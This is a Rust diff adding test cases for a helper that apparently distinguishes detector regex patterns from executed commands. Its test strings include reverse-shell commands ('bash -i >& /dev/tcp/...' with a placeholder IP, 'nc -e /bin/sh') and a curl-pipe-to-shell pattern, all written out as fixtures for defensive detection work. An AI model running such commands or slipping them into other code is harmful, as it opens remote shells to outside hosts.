@@ -55,6 +55,20 @@ fn raw_string_entries_are_detector_patterns() {
     assert!(!super::is_pattern_literal(
         r#"    os.system(r"bash -i >& /dev/tcp/x/1"),"#
     ));
+    // A literal of alternatives compiled as a regex is what a detector searches for.
+    assert!(super::is_pattern_literal(
+        r#"    "reverse shell": re.compile(r"bash -i >& /dev/tcp/|nc -e /bin/sh"),"#
+    ));
+    assert!(super::is_pattern_literal(
+        r#"const rx = new RegExp('curl [^|]*| sh|wget -O- ');"#
+    ));
+    // One command compiled, or a compile next to a run, is not.
+    assert!(!super::is_pattern_literal(
+        r#"rx = re.compile("bash -i >& /dev/tcp/192.0.2.1/4444")"#
+    ));
+    assert!(!super::is_pattern_literal(
+        r#"re.compile("a|b"); os.system("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")"#
+    ));
 }
 
 #[test]
